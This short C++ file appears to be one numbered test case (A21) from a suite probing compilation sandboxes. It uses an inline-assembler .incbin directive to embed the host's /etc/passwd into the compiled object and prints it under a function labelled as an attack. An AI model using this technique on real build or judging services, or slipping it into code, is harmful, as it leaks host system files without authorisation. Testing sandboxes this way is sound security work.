// A21: the assembler reads a file of the host into the object.

asm(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n.previous");
extern "C" const char stolen[];

#include <cstdio>

namespace attack {

void Strike() { std::printf("STOLEN %s\n", stolen); }

}  // namespace attack
